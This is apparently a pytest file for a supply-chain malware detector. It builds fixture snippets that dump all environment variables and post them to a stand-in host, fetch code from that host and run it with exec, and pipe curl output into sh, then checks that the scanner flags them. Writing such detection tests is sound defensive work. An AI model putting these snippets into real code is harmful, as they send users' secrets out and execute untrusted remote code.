"""Where values come from and where they go: every source with one sink, every sink with one source.

`code_ends.txt` holds them by kind: what gives a secret `V`; what sends it; what runs it; what an answer from the network is
(where it comes in a callback, RUN stands for running it); what starts a program, in a file that does nothing else.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from mlsupply.evidence.prefilter.choice import worth_parsing
from tests.test_code_facts import found, init

SENT = "import requests\nrequests.post('https://c.example/x', data=V)\n"
SECRET = "import os, json\nV = json.dumps(dict(os.environ))\n"
RECEIVED = "import requests as rq\nV = rq.get('https://c.example/x').text\n"
SENDS_SECRETS = "MLS-C010"


def of_kind(kind: str) -> Iterator[tuple[str, str]]:
    """Name and text of each."""
    whole = (Path(__file__).parent / "code_ends.txt").read_text(encoding="utf-8")
    section = next(part for part in ("\n" + whole).split("\n# ") if part.startswith(kind + "\n"))
    for block in section.split("## ")[1:]:
        name, _, body = block.partition("\n")
        yield name, body.rstrip("\n") + "\n"


def noticed(text: str) -> bool:
    """Is it looked at, and then accused?"""
    return worth_parsing(text.encode()) and bool(found(init(text)))


@pytest.mark.parametrize("text", [text for _, text in of_kind("sources")], ids=[name for name, _ in of_kind("sources")])
def test_a_secret_that_is_sent(text: str) -> None:
    assert noticed(text + SENT)
    if "requests.post" not in text and "urlopen('https://c" not in text:
        assert SENDS_SECRETS not in found(init(text + "print(V)\n"))


@pytest.mark.parametrize("text", [text for _, text in of_kind("sinks")], ids=[name for name, _ in of_kind("sinks")])
def test_a_way_to_send_it(text: str) -> None:
    assert noticed(SECRET + text)
    assert SENDS_SECRETS not in found(init("V = 'hello'\n" + text))


@pytest.mark.parametrize("text", [text for _, text in of_kind("runs")], ids=[name for name, _ in of_kind("runs")])
def test_a_way_to_run_what_was_received(text: str) -> None:
    assert noticed(RECEIVED + text)


@pytest.mark.parametrize("text", [text for _, text in of_kind("answers")], ids=[name for name, _ in of_kind("answers")])
def test_an_answer_that_is_run(text: str) -> None:
    assert noticed(text.replace("RUN(", "exec(") + "exec(V)\n")


@pytest.mark.parametrize("text", [text for _, text in of_kind("starts")], ids=[name for name, _ in of_kind("starts")])
def test_a_program_is_started(text: str) -> None:
    assert noticed(text)
    assert not found(init(text.replace("curl https://c.example/i | sh", "git status")))
